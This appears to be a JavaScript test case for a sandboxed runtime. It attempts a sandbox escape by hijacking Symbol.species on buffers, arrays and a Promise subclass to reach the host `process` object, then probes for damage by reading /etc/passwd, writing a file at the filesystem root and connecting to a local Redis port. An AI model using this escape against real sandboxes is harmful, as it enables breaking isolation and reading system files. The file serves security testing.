// expect: succeeded
// why: a class that makes itself out of what host functions return: species of buffers, arrays and promises
async function main() {
  let found;
  const take = (value) => { try { found ??= value.constructor.constructor('return process')(); } catch {} };
  const grab = function (...given) { given.forEach(take); return given[0] ?? []; };
  for (const make of [() => Buffer.from('ab'), () => new TextEncoder().encode('ab'), () => structuredClone([1, 2])]) {
    const object = make();
    try { Object.defineProperty(object, 'constructor', { value: { [Symbol.species]: grab } }); } catch {}
    for (const method of ['map', 'filter', 'slice', 'subarray', 'concat']) {
      try { take(object[method]((value) => value)); } catch {}
    }
  }
  class Mine extends Promise { static get [Symbol.species]() { return class { constructor(run) { run(take, take); } }; } }
  try { await new Mine((_, reject) => setTimeout(() => { try { new URL('x'); } catch (error) { reject(error); } })); } catch (error) { take(error); }
  return boundary(found);
}

// Whether `process` in hand leads anywhere: only the kernel's boundary counts.
async function boundary(process) {
  if (!process?.versions) return { escaped: false, detail: 'the guard holds' };
  try {
    const load = (name) => process.getBuiltinModule?.(name) ?? process.mainModule.require(name);
    const works = (attempt) => { try { return attempt(), true; } catch { return false; } };
    const read = works(() => load('fs').readFileSync('/etc/passwd')) || works(() => load('fs').readdirSync('/proc'));
    const written = works(() => load('fs').writeFileSync('/mark', 'x'));
    const connected = await new Promise((done) => {
      load('net').connect(6379, '127.0.0.1').on('connect', () => done(true)).on('error', () => done(false));
    });
    return { escaped: read || written || connected, detail: ['the guard fell', { read, written, connected }] };
  } catch (error) {
    return { escaped: false, detail: ['the guard fell, and no module came', String(error)] };
  }
}
